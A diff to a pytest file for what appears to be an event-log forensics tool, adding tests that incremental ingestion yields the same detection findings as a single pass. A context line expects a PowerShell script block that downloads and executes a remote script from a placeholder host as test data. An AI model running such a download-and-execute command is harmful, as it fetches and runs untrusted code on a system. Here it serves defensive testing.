@@ -266,3 +266,54 @@ def test_the_detail_of_a_script_block_part_holds_the_whole_script_joined_in_orde
         script = views.detail(cur, int(eid))["script"]  # type: ignore[index]
     assert script == {"parts": 2, "total": 2,
                       "text": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')Write-Output done"}
+
+
+FINDING_ROWS = """SELECT id, rule, title, severity, host, "user", first, last, count, reason, eids, logon_id, boot,
+                         process, "values" FROM findings ORDER BY id"""
+
+
+def _rows(path: Path) -> tuple[list[Any], list[Any]]:
+    with Case(path, read_only=True) as case:
+        cur = case.cursor()
+        return (cur.execute(FINDING_ROWS).fetchall(),
+                cur.execute("SELECT finding, eid FROM finding_events ORDER BY ALL").fetchall())
+
+
+def test_findings_after_an_added_file_are_those_of_the_whole_case_computed_at_once(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from engine.findings import store
+
+    # Every other event in each file: the second file adds events to the hosts of the first (whose
+    # findings are computed again) and raises findings of its own.
+    first = write_jsonl(tmp_path / "a.jsonl", EVIDENCE.docs[::2])
+    second = write_jsonl(tmp_path / "b.jsonl", EVIDENCE.docs[1::2])
+    at_once = tmp_path / "at-once.duckdb"
+    ingest_into(at_once, [first, second])
+    added = tmp_path / "added.duckdb"
+    ingest_into(added, [first])
+    computed: list[str] = []
+    real_compute, real_update = store.compute, store.update
+    monkeypatch.setattr(store, "compute", lambda *a, **k: computed.append("compute") or real_compute(*a, **k))
+    monkeypatch.setattr(store, "update", lambda *a, **k: computed.append("update") or real_update(*a, **k))
+    ingest_into(added, [second])
+    assert computed == ["update"]
+    rows, links = _rows(added)
+    assert rows and (rows, links) == _rows(at_once)
+
+
+@pytest.mark.corpus
+@pytest.mark.slow
+def test_on_the_corpus_adding_the_json_exports_to_the_evtx_case_gives_the_findings_of_both_at_once(
+        tmp_path: Path) -> None:
+    from tui.testing import SHARED_CORPUS
+
+    if not SHARED_CORPUS.is_dir():
+        pytest.skip(f"{SHARED_CORPUS} is absent (../shared/corpus)")
+    evtx, ndjson = SHARED_CORPUS / "evtx", SHARED_CORPUS / "ndjson"
+    at_once = tmp_path / "at-once.duckdb"
+    ingest_into(at_once, [evtx, ndjson])
+    added = tmp_path / "added.duckdb"
+    ingest_into(added, [evtx])
+    ingest_into(added, [ndjson])
+    rows, links = _rows(added)
+    assert len(rows) > 100 and (rows, links) == _rows(at_once)
